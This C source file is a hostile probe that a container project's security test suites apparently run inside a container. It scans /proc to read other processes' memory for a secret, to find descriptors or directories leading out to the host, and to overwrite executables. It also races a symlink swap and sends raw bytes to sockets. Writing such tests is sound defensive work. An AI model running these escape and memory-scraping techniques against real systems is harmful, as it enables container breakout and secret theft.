/*
 * The attacker's own program, static, run inside a container by the hostile-*.test.ts suites. In: a mode and its arguments.
 * Out: one line a finding on standard output. It knows nothing of the project; it tries what anyone could try from there.
 *
 *   spy MARKER MASK KEY MS   looks at every process that appears: root, cwd, descriptors, memory, executable. KEY is a secret,
 *                            hexadecimal, each byte masked with MASK, so that the probe itself does not hold what it looks for
 *   swap DIRECTORY MS        exchanges DIRECTORY/a, a directory, with DIRECTORY/b, a link to the host's path, as fast as it can
 *   connect PATH HEX         connects to a socket, sends the bytes and prints how it ends
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long long now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

static size_t decode_hex(const char *text, unsigned char *out, size_t max) {
  size_t size = 0;
  for (unsigned value; size < max && sscanf(text + 2 * size, "%2x", &value) == 1; size++) out[size] = (unsigned char)value;
  return size;
}

/* Climbs from a directory as far as it goes and looks for a file that only the host has. */
static int leads_out(int start, const char *marker) {
  int at = dup(start), found = 0;
  for (int level = 0; level < 24 && at >= 0 && !found; level++) {
    found = faccessat(at, marker + 1, F_OK, 0) == 0;
    int up = openat(at, "..", O_PATH | O_DIRECTORY);
    close(at);
    at = up;
  }
  if (at >= 0) close(at);
  return found;
}

static unsigned char memory[1 << 20];

static int holds(const char *pid, const unsigned char *key, size_t size, unsigned char mask) {
  char path[300], line[512];
  snprintf(path, sizeof path, "/proc/%s/maps", pid);
  FILE *maps = fopen(path, "r");
  snprintf(path, sizeof path, "/proc/%s/mem", pid);
  int fd = open(path, O_RDONLY), found = fd < 0 || maps == NULL ? -1 : 0, is_ours = 0;
  while (found == 0 && fgets(line, sizeof line, maps)) {
    unsigned long from, to;
    is_ours |= strstr(line, "/memfd:") != NULL; /* or it has executed meanwhile, and this is the container's own */
    if (sscanf(line, "%lx-%lx", &from, &to) != 2) continue;
    for (; from < to && found == 0; from += sizeof memory) {
      ssize_t got = pread(fd, memory, to - from < sizeof memory ? to - from : sizeof memory, (off_t)from);
      for (ssize_t i = 0; i + (ssize_t)size <= got && found == 0; i++) {
        size_t same = 0;
        while (same < size && (memory[i + (ssize_t)same] ^ mask) == key[same]) same++;
        found = same == size;
      }
    }
  }
  if (fd >= 0) close(fd);
  if (maps) fclose(maps);
  return is_ours ? found : -1;
}

static int executables;

static int exe_is_writable(const char *pid) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_RDWR), bad = 0;
  if (fd < 0) fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  char own[64], target[64] = "";
  snprintf(own, sizeof own, "/proc/self/fd/%d", fd);
  /* A process that has just executed has another one by now, which is the container's. */
  if (readlink(own, target, sizeof target - 1) < 0 || strncmp(target, "/memfd:", 7) != 0) return close(fd), 0;
  executables++;
  bad |= pwrite(fd, "x", 1, 0) == 1 || ftruncate(fd, 0) == 0;
  if (fchmod(fd, 0) == 0) printf("MODE\n");
  close(fd);
  return bad;
}

static int seen, looked;

static void look_at(const char *pid, const char *marker, const unsigned char *key, size_t size, unsigned char mask) {
  char path[600], name[64] = "";
  static const char *places[] = {"root", "cwd"};
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  int comm = open(path, O_RDONLY);
  if (comm >= 0 && read(comm, name, sizeof name - 1) > 0) name[strcspn(name, "\n")] = 0;
  if (comm >= 0) close(comm);
  int ours = strncmp(name, "berth", 5) == 0 || strncmp(name, "memfd:", 6) == 0 || strcmp(name, "3") == 0;
  seen += ours;
  for (int i = 0; i < 2; i++) {
    snprintf(path, sizeof path, "/proc/%s/%s", pid, places[i]);
    int fd = open(path, O_RDONLY | O_DIRECTORY);
    if (fd < 0) continue;
    looked += ours;
    if (leads_out(fd, marker)) printf("OUT %s %s\n", name, places[i]);
    close(fd);
  }
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR *fds = opendir(path);
  for (struct dirent *entry; fds && (entry = readdir(fds));) {
    if (entry->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
    char target[200] = "";
    int fd = open(path, O_PATH);
    if (fd < 0) continue;
    looked += ours;
    struct stat info;
    bool is_device = fstat(fd, &info) == 0 && S_ISCHR(info.st_mode); /* what stands for the missing streams */
    if (!is_device && readlink(path, target, sizeof target - 1) > 0 && strncmp(target, "/proc/", 6) != 0 && strstr(target, "[") == NULL && ours && atoi(entry->d_name) > 2)
      if (strncmp(target, "/memfd:", 7) != 0) printf("HOLDS %s %s %s\n", name, entry->d_name, target);
    if (strncmp(target, "mnt:", 4) == 0 || strncmp(target, "net:", 4) == 0) printf("HOLDS %s %s %s\n", name, entry->d_name, target);
    if (leads_out(fd, marker)) printf("OUT %s fd %s\n", name, target);
    close(fd);
  }
  if (fds) closedir(fds);
  if (!ours) return;
  if (exe_is_writable(pid)) printf("EXE %s\n", name);
  int found = holds(pid, key, size, mask);
  if (found >= 0) printf("READ %s\n", name);
  if (found > 0) printf("SECRET %s\n", name);
}

static int spy(const char *marker, const char *mask, const char *key_text, const char *ms) {
  unsigned char key[64], mask_byte = (unsigned char)atoi(mask);
  size_t size = decode_hex(key_text, key, sizeof key);
  long long end = now_ms() + atoi(ms);
  setvbuf(stdout, NULL, _IOLBF, 0);
  int first = getpid();
  printf("READY\n");
  /* A slow machine gets more time to show something. */
  for (long long last = end + 8 * atoi(ms); now_ms() < end || (seen < 20 && now_ms() < last);) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
      int pid = atoi(entry->d_name);
      if (pid > 0 && pid != first) look_at(entry->d_name, marker, key, size, mask_byte);
    }
    if (proc) closedir(proc);
  }
  printf("SEEN %d LOOKED %d EXECUTABLES %d\n", seen, looked, executables);
  return 0;
}

static int swap(const char *directory, const char *ms) {
  char a[512], b[512];
  snprintf(a, sizeof a, "%s/a", directory);
  snprintf(b, sizeof b, "%s/b", directory);
  printf("READY\n");
  fflush(stdout);
  long swaps = 0;
  for (long long end = now_ms() + atoi(ms); now_ms() < end; swaps++)
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) {
      printf("ERROR %s\n", strerror(errno));
      return 1;
    }
  printf("SWAPS %ld\n", swaps);
  return 0;
}

static int connect_to(const char *path, const char *hex) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  static unsigned char bytes[65536];
  size_t size = decode_hex(hex, bytes, sizeof bytes);
  snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(fd, (struct sockaddr *)&address, sizeof address) < 0) {
    printf("REFUSED %s\n", strerror(errno));
    return 0;
  }
  struct timeval wait = {.tv_sec = 8};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
  if (send(fd, bytes, size, MSG_NOSIGNAL) < 0) {
    printf("CLOSED %s\n", strerror(errno));
    return 0;
  }
  ssize_t got = recv(fd, bytes, sizeof bytes, 0);
  if (got > 0) printf("ANSWER %zd\n", got);
  else printf("CLOSED %s\n", got == 0 ? "end" : strerror(errno));
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 6 && strcmp(argv[1], "spy") == 0) return spy(argv[2], argv[3], argv[4], argv[5]);
  if (argc == 4 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3]);
  if (argc == 4 && strcmp(argv[1], "connect") == 0) return connect_to(argv[2], argv[3]);
  fprintf(stderr, "usage: see the head of the source\n");
  return 64;
}
